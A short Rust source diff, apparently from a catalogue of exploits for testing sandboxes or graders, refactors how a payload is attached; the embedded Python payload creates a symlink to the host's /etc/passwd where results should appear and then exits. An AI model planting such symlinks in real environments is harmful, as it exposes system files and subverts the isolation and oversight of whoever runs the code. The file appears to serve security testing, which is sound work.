@@ -2,7 +2,7 @@
 
 use envy_core::{Exploit, FlagKind};
 
-use super::{Payload, Place, Plan};
+use super::{Inside, Payload, Place, Plan};
 
 const CODE: &str = r#"import os
 
@@ -14,8 +14,7 @@ def link():
         os.symlink("/etc/passwd", name)
     os._exit(0)
 "#;
-const PAYLOAD: Payload =
-    Payload { code: CODE, inside: &[(Place::Cleaning, "link()"), (Place::Leakage, "link()")], files: &[] };
+const PAYLOAD: Payload = Payload { code: CODE, inside: Inside::Same("link()"), files: &[] };
 
 /// Leaves a link to a file of the host where its results should be.
 pub(super) const PLAN: Plan = Plan {
